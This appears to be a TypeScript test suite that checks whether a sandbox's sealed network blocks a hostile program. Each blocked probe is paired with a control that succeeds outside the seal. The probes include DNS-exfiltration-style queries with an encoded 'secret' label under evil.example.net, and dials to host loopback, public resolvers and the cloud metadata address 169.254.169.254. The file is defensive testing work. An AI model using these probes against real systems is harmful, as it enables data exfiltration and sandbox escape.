/*
 * What a hostile program inside a sealed network tries, each with a positive control: the same probe, run where no seal is, succeeds.
 */
import { execFile, spawn } from 'node:child_process';
import { networkInterfaces } from 'node:os';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Route } from '../../src/core/index.ts';
import { openSealedNetwork, sealedNetworkStatus } from '../../src/sidecars/gateway/index.ts';
import {
  countingNameServer,
  eventually,
  greetingServer,
  makeTestNetwork,
  probeFrom,
  whyNoNamespaces,
} from '../integration/sealed-network-harness.ts';
import type { Outcome, Probe } from '../integration/sealed-network-probe.ts';

/** The one route of the sealed networks that these rows attack. */
export const ROUTE: Route = { name: 'example', hosts: ['example.com'], ports: [80, 443], mode: 'passthrough' };

/** Where the hostile program runs. */
export interface SealedPlace {
  probe(probes: readonly Probe[]): Promise<Outcome[]>;
  /** Connections of the init that wait at the gateway */
  idle(): Promise<number | undefined>;
  /** What a connection gives that the gateway resets at once */
  readonly reset: RegExp;
  /** What dialling an address outside of the block gives, and sending a datagram there */
  readonly unreachable: { readonly tcp: RegExp; readonly udp: RegExp };
}

const run = promisify(execFile);
const reason = whyNoNamespaces();
/** No answer, no route, or a reset by the gateway: nothing else may happen to a probe */
const REFUSED = /^(ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|ECONNRESET|EADDRNOTAVAIL|EINVAL|no answer|NXDOMAIN)$/;
/** A network that stands for the outside world: its own namespace behind a veth pair */
const OUTSIDE = {
  namespace: `terokrt${process.pid}`,
  link: `terokrt${process.pid % 100_000}`,
  host: '10.213.77.1',
  address: '10.213.77.2',
};

/** Registers the attacks; `place` is asked when they run. */
export function sealRows(place: () => SealedPlace): void {
  async function expectSealed(probes: readonly Probe[]): Promise<void> {
    for (const outcome of await place().probe(probes)) expect(outcome).toMatch(REFUSED);
  }

  describe('DNS', () => {
    const LABELS = ['c2VjcmV0', 'random', 'x'.repeat(63)];
    const questions = (server: string, port: number): Probe[] =>
      (['A', 'AAAA', 'TXT', 'NULL', 'MX'] as const).flatMap((type) =>
        LABELS.map((label) => ({ kind: 'dns' as const, server, port, name: `${label}.evil.example.net`, type })),
      );

    it('never asks a name server of the host, neither on its loopback nor through the name server of the bottle', async () => {
      const server = await countingNameServer('127.0.0.5', 5_353);
      try {
        const control = await probeFrom([], questions('127.0.0.5', 5_353));
        expect(control.every((outcome) => outcome.startsWith('answered'))).toBe(true);
        expect(server.queries()).toBe(control.length);
        await expectSealed([...questions('127.0.0.5', 5_353), ...questions('198.18.0.1', 53)]);
        expect(server.queries()).toBe(control.length);
      } finally {
        server.close();
      }
    });

    it('never sends anything for a name below an allowed one or for an allowed one', async () => {
      const server = await countingNameServer('127.0.0.6', 5_354);
      try {
        const [control] = await probeFrom([], [{ kind: 'dns', server: '127.0.0.6', port: 5_354, name: 'example.com', type: 'A' }]);
        expect(control).toBe('answered 192.0.2.1');
        const [allowed, below] = await place().probe([
          { kind: 'dns', server: '198.18.0.1', name: 'example.com', type: 'A' },
          { kind: 'dns', server: '198.18.0.1', name: 'c2VjcmV0.example.com', type: 'A' },
        ]);
        expect(allowed).toMatch(/^answered 198\.1[89]\./);
        expect(below).toBe('NXDOMAIN');
        expect(server.queries()).toBe(1);
      } finally {
        server.close();
      }
    });
  });

  describe('the host', () => {
    it('is not reached on its loopback addresses or its own, whatever it listens on', async () => {
      const own = Object.values(networkInterfaces())
        .flatMap((addresses) => addresses ?? [])
        .filter(({ family, internal }) => family === 'IPv4' && !internal)
        .map(({ address }) => address);
      for (const listen of ['127.0.0.1', '127.0.0.5', '0.0.0.0']) {
        const server = await greetingServer(listen);
        try {
          const targets = listen === '0.0.0.0' ? ['127.0.0.1', '127.0.0.5', ...own] : [listen];
          const probes = targets.map((host): Probe => ({ kind: 'tcp', host, port: server.port }));
          const control = await probeFrom([], probes);
          expect(control).toEqual(targets.map(() => 'connected hello'));
          const before = server.connections();
          await expectSealed([
            ...probes,
            { kind: 'tcp', host: '198.18.0.1', port: server.port },
            { kind: 'tcp', host: `::ffff:${targets[0]}`, port: server.port },
          ]);
          expect(server.connections()).toBe(before);
        } finally {
          server.close();
        }
      }
    });

    it('is not reached over IPv6', async (context) => {
      const server = await greetingServer('::1').catch(() => undefined);
      if (server === undefined) return context.skip('this host has no IPv6 loopback');
      try {
        const probes: Probe[] = [{ kind: 'tcp', host: '::1', port: server.port }];
        expect(await probeFrom([], probes)).toEqual(['connected hello']);
        await expectSealed([
          ...probes,
          { kind: 'tcp', host: '2001:db8::1', port: server.port },
          { kind: 'tcp', host: 'fe80::1%lo', port: server.port },
          { kind: 'udp', host: '2001:db8::1', port: 53, text: 'x' },
        ]);
        expect(server.connections()).toBe(1);
      } finally {
        server.close();
      }
    });
  });

  describe('the world', () => {
    beforeAll(async () => {
      if (reason !== undefined) return;
      const { namespace, link, host, address } = OUTSIDE;
      await run('ip', ['netns', 'add', namespace]);
      await run('ip', ['link', 'add', link, 'type', 'veth', 'peer', 'name', 'eth0', 'netns', namespace]);
      await run('ip', ['addr', 'add', `${host}/30`, 'dev', link]);
      await run('ip', ['link', 'set', link, 'up']);
      await run('ip', ['-n', namespace, 'addr', 'add', `${address}/30`, 'dev', 'eth0']);
      await run('ip', ['-n', namespace, 'link', 'set', 'eth0', 'up']);
    });
    afterAll(async () => {
      if (reason === undefined) await run('ip', ['netns', 'del', OUTSIDE.namespace]);
    });

    it('gets neither a connection nor a datagram by raw address', async () => {
      const program = `const net=require('net'),d=require('dgram');let n=0;const u=d.createSocket('udp4');
        u.on('message',(m,r)=>{n++;u.send(String(n),r.port,r.address)});u.bind(53);net.createServer(s=>{n++;s.end('n'+n)}).listen(443,()=>console.log('up'))`;
      const server = spawn('ip', ['netns', 'exec', OUTSIDE.namespace, process.execPath, '-e', program], {
        stdio: ['ignore', 'pipe', 'inherit'],
      });
      try {
        await new Promise((resolve) => server.stdout.once('data', resolve));
        const probes: Probe[] = [
          { kind: 'tcp', host: OUTSIDE.address, port: 443 },
          { kind: 'udp', host: OUTSIDE.address, port: 53, text: 'x' },
        ];
        expect(await probeFrom([], probes)).toEqual(['connected n1', 'answered 2']);
        await expectSealed(probes);
        // The third thing that server hears is this control, so it heard nothing of the bottle
        expect(await probeFrom([], probes.slice(0, 1))).toEqual(['connected n3']);
      } finally {
        server.kill('SIGKILL');
      }
    });

    it('has no route: every address outside the block is unreachable at once', async () => {
      const targets = ['1.1.1.1', '8.8.8.8', '169.254.169.254', '10.0.0.1', '198.20.0.1', '198.17.255.255', '224.0.0.251'];
      const outcomes = await place().probe(targets.map((host) => ({ kind: 'tcp', host, port: 53 })));
      for (const outcome of outcomes) expect(outcome).toMatch(place().unreachable.tcp);
      for (const outcome of await place().probe(targets.map((host) => ({ kind: 'udp', host, port: 53, text: 'x' }))))
        expect(outcome).toMatch(place().unreachable.udp);
    });
  });

  describe('another bottle', () => {
    it('is not reached: the same addresses mean something else in each network', async () => {
      const other = await makeTestNetwork([{ ...ROUTE, hosts: ['other.example.org'] }]);
      await (await openSealedNetwork(other.plan)).ready;
      const idle = await place().idle();
      const waiting = other.probe([{ kind: 'tcp', host: '198.18.0.1', port: 2022 }]);
      await eventually('the other bottle waits', async () => (await sealedNetworkStatus(other.plan)).detail?.idleExecConnections === 1);
      const [control] = await other.probe([{ kind: 'dns', server: '198.18.0.1', name: 'other.example.org', type: 'A' }]);
      expect(control).toMatch(/^answered 198/);
      const address = (control ?? '').replace('answered ', '');
      await expectSealed([{ kind: 'dns', server: '198.18.0.1', name: 'other.example.org', type: 'A' }]);
      const [dialled] = await place().probe([{ kind: 'tcp', host: address, port: 443 }]);
      expect(dialled).toMatch(place().reset);
      expect(await place().idle()).toBe(idle);
      await waiting;
    });
  });
}
